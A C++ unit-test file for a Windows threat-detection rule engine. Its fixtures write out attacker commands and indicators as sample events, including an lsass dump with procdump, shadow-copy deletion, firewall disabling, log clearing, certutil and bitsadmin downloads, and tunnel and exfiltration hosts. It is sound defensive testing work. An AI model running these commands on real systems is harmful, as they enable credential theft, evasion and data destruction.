// Threat rules: every rule fires on a row it describes and stays quiet on a near miss; the
// ranking of several matches, the result classes, the match modes and the bounded threat text.
#include <cstring>
#include <string>

#include "base/text.h"
#include "doctest.h"
#include "rules/threat_rules.h"

using namespace olv;

namespace {

// Readable form of a UTF-16 text for failure messages (non-ASCII shown as '?').
std::string Narrow(const char16_t* text) {
    std::string out;
    for (size_t i = 0; text != nullptr && text[i] != 0; ++i) {
        out += text[i] < 0x80 ? static_cast<char>(text[i]) : '?';
    }
    return out;
}

constexpr uint32_t kFile = kCategoryFile;
constexpr uint32_t kReg = kCategoryRegistry;
constexpr uint32_t kNet = kCategoryNetwork;
constexpr uint32_t kProc = kCategoryProcess;

struct RowSpec {
    uint32_t category;
    const char16_t* operation;
    const char16_t* path;
    const char16_t* detail;
    const char16_t* result;
};

void Fill(EventRow& row, const RowSpec& spec) {
    std::memset(&row, 0, sizeof(row));
    row.category = spec.category;
    CopyBounded(row.operation, kOperationChars, spec.operation);
    CopyBounded(row.path, kPathChars, spec.path);
    CopyBounded(row.detail, kDetailChars, spec.detail);
    CopyBounded(row.result, kResultChars, spec.result);
}

struct Scored {
    int32_t severity;
    std::string threat;
};

Scored Score(const RowSpec& spec) {
    static EventRow row; // 3256 bytes: kept off the test's stack
    Fill(row, spec);
    const int32_t severity = ScoreRow(&row, row.threat, kThreatChars);
    return {severity, Narrow(row.threat)};
}

const ThreatRule& Rule(int number) {
    return kThreatRules[number - 1];
}

// One row per rule that fires it alone, and one near miss per rule.
struct RuleCase {
    int rule; // 1-based table position
    RowSpec hit;
    RowSpec miss;
    const char* why;
};

const RuleCase kRuleCases[] = {
    {1,
     {kReg, u"Wrote registry value", u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      u"Updater", u"OK"},
     {kReg, u"Read registry value", u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      u"Updater", u"OK"},
     "a read is not a write"},
    {2,
     {kReg, u"Wrote registry value", u"HKLM\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc",
      u"ImagePath", u"OK"},
     {kReg, u"Wrote registry value", u"HKLM\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc",
      u"Description", u"OK"},
     "service key without an image value"},
    {3,
     {kReg, u"Wrote registry value",
      u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", u"Userinit", u"OK"},
     {kReg, u"Wrote registry value",
      u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", u"LegalNoticeText",
      u"OK"},
     "winlogon key, harmless value"},
    {4,
     {kReg, u"Created registry key",
      u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
      u"Options\\sethc.exe",
      u"Debugger", u"OK"},
     {kReg, u"Created registry key",
      u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
      u"Options\\sethc.exe",
      u"Debugger", u"DENIED"},
     "the write failed"},
    {5,
     {kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
      u"AppInit_DLLs", u"OK"},
     {kFile, u"Wrote registry value", u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
      u"AppInit_DLLs", u"OK"},
     "wrong category"},
    {6,
     {kReg, u"Wrote registry value",
      u"HKCU\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32",
      u"", u"OK"},
     {kReg, u"Wrote registry value", u"HKCU\\Software\\Classes\\CLSID",
      u"\\CLSID\\{b5f8350b}\\InprocServer32", u"OK"},
     "rule looks at the path only"},
    {7,
     {kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
      u"DisableAntiSpyware", u"OK"},
     {kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
      u"DisableAntiSpyware", u"FAIL 0xC0000022"},
     "the write failed"},
    {8,
     {kFile, u"Created new file",
      u"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start "
      u"Menu\\Programs\\Startup\\run.lnk",
      u"", u"OK"},
     {kFile, u"Opened file",
      u"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start "
      u"Menu\\Programs\\Startup\\run.lnk",
      u"", u"OK"},
     "opening is not writing"},
    {9,
     {kFile, u"Wrote to file", u"C:\\Windows\\System32\\Tasks\\Updater", u"", u"OK"},
     {kFile, u"Deleted file", u"C:\\Windows\\System32\\Tasks\\Updater", u"", u"OK"},
     "a delete is not a write"},
    {10,
     {kFile, u"Created new file", u"C:\\Windows\\Temp\\x.exe", u"", u"OK"},
     {kFile, u"Created new file", u"C:\\Windows\\Temp\\notes.txt", u"", u"OK"},
     "folder without an executable type"},
    {11,
     {kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Roaming\\x.dll", u"", u"OK"},
     {kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Roaming\\x.dll", u"",
      u"FAIL 0xC0000022"},
     "the write failed"},
    {12,
     {kFile, u"Renamed file", u"C:\\ProgramData\\svc.ps1", u"", u"OK"},
     {kFile, u"Renamed file", u"C:\\ProgramData\\svc.log", u"", u"OK"},
     "folder without an executable type"},
    {13,
     {kFile, u"Opened file", u"C:\\Users\\a\\Downloads\\invoice.PDF.exe", u"", u"DENIED"},
     {kNet, u"Opened file", u"C:\\Users\\a\\Downloads\\invoice.pdf.exe", u"", u"OK"},
     "wrong category"},
    {14,
     {kFile, u"Read file", u"C:\\Windows\\System32\\config\\SAM", u"", u"OK"},
     {kReg, u"Read file", u"C:\\Windows\\System32\\config\\SAM", u"", u"OK"},
     "wrong category"},
    {15,
     {kProc, u"Loaded DLL", u"C:\\Users\\a\\AppData\\Local\\Temp\\evil.dll", u"", u""},
     {kProc, u"Started child process", u"C:\\Users\\a\\AppData\\Local\\Temp\\evil.dll", u"", u""},
     "a process start is not a load"},
    {16,
     {kProc, u"Loaded DLL", u"C:\\Windows\\System32\\comsvcs.dll", u"", u""},
     {kProc, u"Process exited", u"C:\\Windows\\System32\\comsvcs.dll", u"", u""},
     "an exit is neither start nor load"},
    {17,
     {kProc, u"Started child process", u"powershell.exe -nop -w hidden -enc SQBFAFgA", u"", u"OK"},
     {kProc, u"Started child process", u"powershell.exe -File C:\\scripts\\backup.ps1", u"", u"OK"},
     "powershell with harmless arguments"},
    {18,
     {kProc, u"Started child process", u"cmd.exe /c echo a && echo b", u"", u"OK"},
     {kProc, u"Started child process", u"cmd.exe /c dir", u"", u"OK"},
     "cmd without chaining"},
    {19,
     {kProc, u"Started child process", u"rundll32.exe C:\\Users\\a\\AppData\\Local\\x.dll,Start",
      u"", u"OK"},
     {kProc, u"Started child process", u"rundll32.exe shell32.dll,Control_RunDLL", u"", u"OK"},
     "rundll32 on a system DLL"},
    {20,
     {kProc, u"Started child process", u"regsvr32.exe /s C:\\Users\\Public\\x.sct", u"", u"OK"},
     {kProc, u"Started child process", u"regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll", u"",
      u"OK"},
     "regsvr32 on a plain DLL"},
    {21,
     {kProc, u"Started child process", u"mshta.exe http://example.test/a.hta", u"", u"OK"},
     {kProc, u"Started child process", u"mshta.exe", u"", u"OK"},
     "list A alone"},
    {22,
     {kProc, u"Started child process", u"certutil.exe -urlcache -f http://x.test/a a.exe", u"",
      u"OK"},
     {kProc, u"Started child process", u"certutil.exe -store my", u"", u"OK"},
     "certutil listing certificates"},
    {23,
     {kProc, u"Started child process", u"bitsadmin /transfer job http://x.test/a C:\\a.exe", u"",
      u"OK"},
     {kProc, u"Started child process", u"bitsadmin /list", u"", u"OK"},
     "bitsadmin listing jobs"},
    {24,
     {kProc, u"Started child process", u"wscript.exe C:\\Users\\a\\Downloads\\invoice.vbs", u"",
      u"OK"},
     {kProc, u"Started child process", u"cscript.exe //nologo C:\\Windows\\System32\\prnmngr.js",
      u"", u"OK"},
     "script host on a system script"},
    {25,
     {kProc, u"Started child process",
      u"C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe "
      u"C:\\Users\\a\\AppData\\Local\\Temp\\p.csproj",
      u"", u"OK"},
     {kProc, u"Started child process", u"MSBuild.exe build.proj", u"", u"OK"},
     "developer tool on a project"},
    {26,
     {kProc, u"Started child process", u"wmic.exe process call create calc.exe", u"", u"OK"},
     {kProc, u"Started child process", u"wmic.exe os get caption", u"", u"OK"},
     "wmic query"},
    {27,
     {kProc, u"Started child process", u"vssadmin.exe delete shadows /all /quiet", u"", u"OK"},
     {kReg, u"Wrote registry value", u"vssadmin.exe delete shadows /all /quiet", u"", u"OK"},
     "wrong category"},
    {28,
     {kProc, u"Started child process", u"netsh advfirewall set allprofiles state off", u"", u"OK"},
     {kProc, u"Loaded DLL", u"netsh advfirewall set allprofiles state off", u"", u"OK"},
     "a load is not a start"},
    {29,
     {kProc, u"Started child process", u"wevtutil.exe cl Security", u"", u"OK"},
     {kProc, u"Started child process", u"wevtutil.exe qe Security", u"", u"OK"},
     "reading the log"},
    {30,
     {kProc, u"Started child process", u"cmd.exe /c ping 127.0.0.1 -n 3 > nul & del \"%~f0\"", u"",
      u"OK"},
     {kProc, u"Started child process", u"ping 127.0.0.1", u"", u"OK"},
     "a plain ping"},
    {31,
     {kProc, u"Started child process", u"reg.exe save HKLM\\SAM C:\\x\\sam.save", u"", u"OK"},
     {kProc, u"Started child process", u"reg.exe save HKCU\\Software\\App app.hiv", u"", u"OK"},
     "saving a harmless hive"},
    {32,
     {kProc, u"Started child process", u"procdump.exe -accepteula -ma lsass.exe out.dmp", u"",
      u"OK"},
     {kProc, u"Started child process", u"procdump.exe -ma notepad.exe", u"", u"OK"},
     "dumping another process"},
    {33,
     {kProc, u"Started child process", u"C:\\Windows\\System32\\whoami.exe /all", u"", u"OK"},
     {kNet, u"Started child process", u"C:\\Windows\\System32\\whoami.exe /all", u"", u"OK"},
     "wrong category"},
    {34,
     {kNet, u"Connected (TCP)", u"10.0.0.5:49712 -> 203.0.113.9:4444", u"", u""},
     {kNet, u"Connected (TCP)", u"10.0.0.5:49712 -> 203.0.113.9:44445", u"", u""},
     "port 44445 is not 4444"},
    {35,
     {kNet, u"DNS query", u"evil.TK", u"", u""},
     {kNet, u"DNS query", u"evil.tk.example.com", u"", u""},
     ".tk not at the end"},
    {36,
     {kNet, u"DNS query", u"abc123.ngrok.io", u"", u""},
     {kNet, u"Opened file", u"abc123.ngrok.io", u"", u""},
     "a file operation is not a network one"},
};

// The scoring written out plainly from the public per-step functions, to check the scoring
// path (which skips work by precomputed character pairs) against.
Scored ReferenceScore(const EventRow& row) {
    const uint32_t opClass = OperationClassOf(row.operation);
    const int resultClass = ClassifyResult(row.result);
    int32_t best = 0;
    int matches = 0;
    std::string name;
    for (const ThreatRule& rule : kThreatRules) {
        if (rule.category != row.category) continue;
        if (rule.operationClasses != 0 && opClass != 0 && (rule.operationClasses & opClass) == 0) {
            continue;
        }
        if (rule.needsSuccess != 0 && resultClass == ResultFailed) continue;
        if (!MatchPatternList(rule.patternsA, &row, rule.fields, rule.matchMode)) continue;
        if (!MatchPatternList(rule.patternsB, &row, rule.fields, rule.matchMode)) continue;
        ++matches;
        if (rule.severity > best) {
            best = rule.severity;
            name = Narrow(rule.name);
        }
    }
    if (matches >= 2) name += " (+" + std::to_string(matches - 1) + ")";
    return {best, best == 0 ? std::string() : name};
}

void CheckAgainstReference(const RowSpec& spec) {
    static EventRow row;
    Fill(row, spec);
    const Scored expected = ReferenceScore(row);
    const int32_t severity = ScoreRow(&row, row.threat, kThreatChars);
    CAPTURE(Narrow(spec.path));
    CAPTURE(Narrow(spec.detail));
    CHECK(severity == expected.severity);
    CHECK(Narrow(row.threat) == expected.threat);
}

} // namespace

TEST_CASE("every rule fires alone on its own row and not on a near miss") {
    bool covered[kThreatRuleCount] = {};
    for (const RuleCase& c : kRuleCases) {
        CAPTURE(c.rule);
        const ThreatRule& rule = Rule(c.rule);
        covered[c.rule - 1] = true;

        const Scored hit = Score(c.hit);
        CHECK(hit.severity == rule.severity);
        CHECK(hit.threat == Narrow(rule.name));

        CAPTURE(c.why);
        const Scored miss = Score(c.miss);
        CHECK(miss.severity == 0);
        CHECK(miss.threat.empty());

        CheckAgainstReference(c.hit);
        CheckAgainstReference(c.miss);
    }
    for (size_t i = 0; i < kThreatRuleCount; ++i) {
        CAPTURE(i + 1);
        CHECK(covered[i]);
    }
}

TEST_CASE("every pattern of every rule matches its own text, in upper case where case folds") {
    static EventRow row;
    for (const ThreatRule& rule : kThreatRules) {
        for (size_t i = 0; rule.patternsA[i] != nullptr; ++i) {
            // The A pattern, then the first B pattern (if any), in upper case.
            char16_t text[kPathChars] = {};
            AppendBounded(text, kPathChars, u"x");
            AppendBounded(text, kPathChars, rule.patternsA[i]);
            if (rule.patternsB != nullptr) {
                AppendBounded(text, kPathChars, u" ");
                AppendBounded(text, kPathChars, rule.patternsB[0]);
            }
            if (rule.matchMode != MatchPathToken) {
                for (char16_t& ch : text) {
                    if (ch >= u'a' && ch <= u'z') ch = static_cast<char16_t>(ch - 32);
                }
            }
            Fill(row, {rule.category, u"", text, u"", u"OK"});
            CAPTURE(Narrow(rule.name));
            CAPTURE(Narrow(text));
            CHECK(MatchPatternList(rule.patternsA, &row, rule.fields, rule.matchMode));
            CHECK(MatchPatternList(rule.patternsB, &row, rule.fields, rule.matchMode));
            CHECK(ScoreRow(&row, nullptr, 0) >= rule.severity);
            CheckAgainstReference({rule.category, u"", text, u"", u"OK"});
            CheckAgainstReference({rule.category, u"", u"x", text, u"OK"});
        }
    }
}

TEST_CASE("rule 36 knows the remote services it names") {
    const char16_t* const hosts[] = {
        u"net.AnyDesk.com",
        u"router7.teamviewer.com",
        u"5e1f.ngrok.io",
        u"5e1f.ngrok-free.app",
        u"mybox.duckdns.org",
        u"mybox.no-ip.biz",
        u"a-b-c.trycloudflare.com",
        u"pastebin.com",
        u"raw.githubusercontent.com",
        u"transfer.sh",
        u"anonfiles.com",
    };
    for (const char16_t* host : hosts) {
        CAPTURE(Narrow(host));
        const Scored s = Score({kNet, u"DNS query", host, u"", u""});
        CHECK(s.severity == 2);
        CHECK(s.threat == "Remote management or tunnel service");
    }
    // The webhook pattern carries a path, so it can only be found in a detail or URL text.
    const Scored webhook =
        Score({kNet, u"Sent data (TCP)", u"10.0.0.5:50000 -> 162.159.135.232:443",
               u"https://discord.com/api/webhooks/1/x", u""});
    CHECK(webhook.severity == 2);
    CHECK(Score({kNet, u"DNS query", u"github.com", u"", u""}).severity == 0);
    CHECK(Score({kNet, u"DNS query", u"ngrok.iox.example", u"", u""}).severity == 0);
}

TEST_CASE("severity is the highest match, the name the first with it, the suffix counts rules") {
    struct Case {
        RowSpec row;
        int32_t severity;
        const char* threat;
    };
    const Case cases[] = {
        // Rules 18 (2) and 33 (1).
        {{kProc, u"Started child process", u"cmd.exe /c whoami.exe && exit", u"", u"OK"},
         2,
         "Obfuscated or chained cmd (+1)"},
        // Rules 17 and 19, both 3: the earlier one names the row.
        {{kProc, u"Started child process", u"rundll32.exe javascript: powershell -enc abc", u"",
          u"OK"},
         3,
         "Suspicious PowerShell arguments (+1)"},
        // Rules 18 (2) then 27 (3): a later, higher rule takes the name.
        {{kProc, u"Started child process", u"cmd.exe /c vssadmin delete shadows /all && exit", u"",
          u"OK"},
         3,
         "Shadow copies deleted (+1)"},
        // Rules 18, 27 and 33.
        {{kProc, u"Started child process", u"cmd.exe /c whoami.exe && vssadmin delete shadows", u"",
          u"OK"},
         3,
         "Shadow copies deleted (+2)"},
        // Rules 10 and 11.
        {{kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe", u"", u"OK"},
         3,
         "Executable dropped in Temp (+1)"},
        // Two patterns of rule 1 are one matching rule.
        {{kReg, u"Wrote registry value",
          u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", u"x", u"OK"},
         3,
         "Run key persistence"},
        // A folder named like an executable counts, in either order.
        {{kFile, u"Wrote to file", u"C:\\Windows\\Temp\\setup.exe\\readme.txt", u"", u"OK"},
         3,
         "Executable dropped in Temp"},
        {{kFile, u"Wrote to file", u"C:\\Windows\\notes.txt", u"", u"OK"}, 0, ""},
    };
    for (const Case& c : cases) {
        CAPTURE(Narrow(c.row.path));
        const Scored s = Score(c.row);
        CHECK(s.severity == c.severity);
        CHECK(s.threat == c.threat);
    }
}

TEST_CASE("results that failed stop the write rules; unknown and warning results do not") {
    struct Case {
        const char16_t* result;
        int cls;
    };
    const Case cases[] = {
        {nullptr, ResultUnknown},
        {u"", ResultUnknown},
        {u"-", ResultUnknown},
        {u"...", ResultUnknown},
        {u"OK", ResultOk},
        {u"PENDING", ResultOk},
        {u"MORE DATA", ResultOk},
        {u"NO MORE", ResultOk},
        {u"WARN 0x80000005", ResultOk},
        {u"WARN", ResultOk},
        {u"DENIED", ResultFailed},
        {u"FAIL 0xC0000022", ResultFailed},
        {u"ok", ResultFailed},
        {u"Warn 0x80000005", ResultFailed},
        {u"OK ", ResultFailed},
        {u"--", ResultFailed},
    };
    for (const Case& c : cases) {
        CAPTURE(Narrow(c.result));
        CHECK(ClassifyResult(c.result) == c.cls);
        const Scored s =
            Score({kReg, u"Wrote registry value",
                   u"HKLM\\Software\\Microsoft\\Windows\\CurrentVERSION\\RUN\\x", u"", c.result});
        CHECK(s.severity == (c.cls == ResultFailed ? 0 : 3));
        CHECK(s.threat == (c.cls == ResultFailed ? "" : "Run key persistence"));
    }
}

TEST_CASE("path suffix: one final dot is allowed, case folds on both sides") {
    struct Case {
        const char16_t* path;
        const char16_t* pattern;
        bool expected;
    };
    const Case cases[] = {
        {u"evil.tk", u".tk", true},   {u"evil.tk.", u".tk", true},  {u"evil.tk..", u".tk", false},
        {u"evil.tka", u".tk", false}, {u"EVIL.TK", u".tk", true},   {u"evil.tk", u".TK", true},
        {u".tk", u".tk", true},       {u"tk", u".tk", false},       {u"", u".tk", false},
        {u"tk.", u".tk", false},      {u"x.", u"", true},           {u"x", u"", false},
        {nullptr, u".tk", false},     {u"evil.tk", nullptr, false},
    };
    for (const Case& c : cases) {
        CAPTURE(Narrow(c.path));
        CAPTURE(Narrow(c.pattern));
        CHECK(PathEndsWith(c.path, c.pattern) == c.expected);
    }
    CHECK(Score({kNet, u"DNS answer", u"evil.tk.", u"", u""}).severity == 2);
    CHECK(Score({kNet, u"DNS answer", u"evil.tk..", u"", u""}).severity == 0);
    CHECK(Score({kNet, u"DNS answer", u"evil.tkz", u"", u""}).severity == 0);
}

TEST_CASE("path token: the port must end at a space or at the end of the path") {
    struct Case {
        const char16_t* path;
        bool expected;
    };
    const Case cases[] = {
        {u"10.0.0.5:50001 -> 198.51.100.7:4444", true},
        {u"198.51.100.7:4444 -> 10.0.0.5:50001", true},
        {u"10.0.0.5:50001 -> 198.51.100.7:44444", false},
        {u"10.0.0.5:4444x -> 198.51.100.7:80", false},
        {u"10.0.0.5:44441 -> 198.51.100.7:4444", true}, // the second occurrence counts
        {u"[fe80::1]:31337", true},
        {u"10.0.0.5:50050", true},
        {u"", false},
    };
    for (const Case& c : cases) {
        CAPTURE(Narrow(c.path));
        const Scored s = Score({kNet, u"Sent data (TCP)", c.path, u"", u""});
        CHECK(s.severity == (c.expected ? 3 : 0));
    }
}

TEST_CASE("pattern lists: null holds, empty holds for nothing, fields select what is searched") {
    static EventRow row;
    Fill(row, {kFile, u"Wrote to file", u"C:\\data\\report.docx", u"", u"OK"});
    const char16_t* const empty[] = {nullptr};
    const char16_t* const wrote[] = {u"WROTE", nullptr};
    const char16_t* const blank[] = {u"", nullptr};
    const char16_t* const report[] = {u"missing", u"Report.", nullptr};
    CHECK(MatchPatternList(nullptr, &row, FieldPath, MatchSubstring));
    CHECK_FALSE(MatchPatternList(empty, &row, FieldPath, MatchSubstring));
    CHECK(MatchPatternList(wrote, &row, FieldOperation, MatchSubstring));
    CHECK_FALSE(MatchPatternList(wrote, &row, FieldPath | FieldDetail, MatchSubstring));
    CHECK(MatchPatternList(report, &row, FieldPath, MatchSubstring));
    CHECK_FALSE(MatchPatternList(report, &row, FieldDetail, MatchSubstring));
    // An empty pattern matches any selected field, even an empty one; no field, no match.
    CHECK(MatchPatternList(blank, &row, FieldDetail, MatchSubstring));
    CHECK_FALSE(MatchPatternList(blank, &row, 0, MatchSubstring));
    // An unknown mode searches like substring mode.
    CHECK(MatchPatternList(report, &row, FieldPath, 77));
}

TEST_CASE("an operation missing from the class table is tested by every rule of its category") {
    CHECK(
        Score({kProc, u"Something new", u"C:\\Users\\a\\AppData\\Local\\Temp\\evil.dll", u"", u""})
            .threat == "DLL loaded from unusual directory");
    CHECK(Score({kProc, u"", u"whoami.exe", u"", u""}).severity == 1);
    CHECK(Score({kReg, u"wrote registry value",
                 u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", u"", u"OK"})
              .severity == 3);
    CHECK(Score({kNet, u"DNS Query", u"evil.top", u"", u""}).severity == 2);
    // The same rows under a known operation of another class are left alone.
    CHECK(Score({kProc, u"Process exited", u"whoami.exe", u"", u""}).severity == 0);
    CHECK(Score({kNet, u"Read file", u"evil.top", u"", u""}).severity == 0);
}

TEST_CASE("operation names are looked up exactly") {
    CHECK(OperationClassOf(u"Opened file") == OpRead);
    CHECK(OperationClassOf(u"opened file") == 0);
    CHECK(OperationClassOf(u"Opened file ") == 0);
    CHECK(OperationClassOf(u"Opened") == 0);
    CHECK(OperationClassOf(u"Changed registry key information, and then some more") == 0);
    CHECK(OperationClassOf(u"Wrote registry value") == OpWrite);
    CHECK(OperationClassOf(u"Started process") == OpStart);
    CHECK(OperationClassOf(u"Unloaded DLL") == OpLoad);
    CHECK(OperationClassOf(u"DNS answer") == OpNetwork);
    CHECK(OperationClassOf(u"Target process exited") == OpExit);
    CHECK(OperationClassOf(u"Deleted registry value") == OpDelete);
    CHECK(OperationClassOf(u"") == 0);
    CHECK(OperationClassOf(nullptr) == 0);
    for (const OperationClassEntry& entry : kOperationClassTable) {
        CHECK(OperationClassOf(entry.operation) == entry.classes);
    }
}

TEST_CASE("the threat text is bounded by the capacity and the severity always returned") {
    static EventRow row;
    char16_t out[40];
    const auto fillOut = [&] {
        for (char16_t& ch : out)
            ch = u'#';
    };

    Fill(row, {kReg, u"Wrote registry value",
               u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", u"", u"OK"});
    fillOut();
    CHECK(ScoreRow(&row, out, 10) == 3);
    CHECK(Narrow(out) == "Run key p");
    CHECK(out[10] == u'#');

    // Two rules: no room for the suffix within 10 characters.
    Fill(row,
         {kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe", u"", u"OK"});
    fillOut();
    CHECK(ScoreRow(&row, out, 10) == 3);
    CHECK(Narrow(out) == "Executabl");
    // Room for part of the suffix only: cut like any other text.
    fillOut();
    CHECK(ScoreRow(&row, out, 30) == 3);
    CHECK(Narrow(out) == "Executable dropped in Temp (+");
    CHECK(out[30] == u'#');

    fillOut();
    CHECK(ScoreRow(&row, out, 1) == 3);
    CHECK(out[0] == 0);
    CHECK(out[1] == u'#');
    CHECK(ScoreRow(&row, nullptr, 128) == 3);
    fillOut();
    CHECK(ScoreRow(&row, out, 0) == 3);
    CHECK(out[0] == u'#');

    // A row that matches nothing leaves an empty text behind; no row scores nothing.
    Fill(row, {kFile, u"Read file", u"C:\\Windows\\win.ini", u"", u"OK"});
    fillOut();
    CHECK(ScoreRow(&row, out, 40) == 0);
    CHECK(out[0] == 0);
    fillOut();
    CHECK(ScoreRow(nullptr, out, 40) == 0);
    CHECK(out[0] == 0);
}

TEST_CASE("a row whose texts fill their buffers is read only within them") {
    static EventRow row;
    Fill(row, {kProc, u"Started child process", u"", u"", u"OK"});
    for (char16_t& ch : row.path)
        ch = u'a';
    for (char16_t& ch : row.detail)
        ch = u'b';
    // "rundll32" at the very end of the path, "http" at the very end of the detail.
    std::memcpy(row.path + kPathChars - 8, u"rundll32", 8 * sizeof(char16_t));
    std::memcpy(row.detail + kDetailChars - 4, u"http", 4 * sizeof(char16_t));
    char16_t out[kThreatChars];
    CHECK(ScoreRow(&row, out, kThreatChars) == 3);
    CHECK(Narrow(out) == "rundll32 abuse");

    // A name split across the end of the path and the start of the detail is not found.
    std::memcpy(row.path + kPathChars - 8, u"aarundll", 8 * sizeof(char16_t));
    std::memcpy(row.detail, u"32 ", 3 * sizeof(char16_t));
    CHECK(ScoreRow(&row, out, kThreatChars) == 0);
}

TEST_CASE("severity labels") {
    CHECK(Narrow(SeverityLabel(0)).empty());
    CHECK(Narrow(SeverityLabel(1)) == "Low");
    CHECK(Narrow(SeverityLabel(2)) == "Medium");
    CHECK(Narrow(SeverityLabel(3)) == "High");
    CHECK(Narrow(SeverityLabel(4)).empty());
    CHECK(Narrow(SeverityLabel(0xFFFFFFFFu)).empty());
    CHECK(SeverityLabel(9) != nullptr);
}
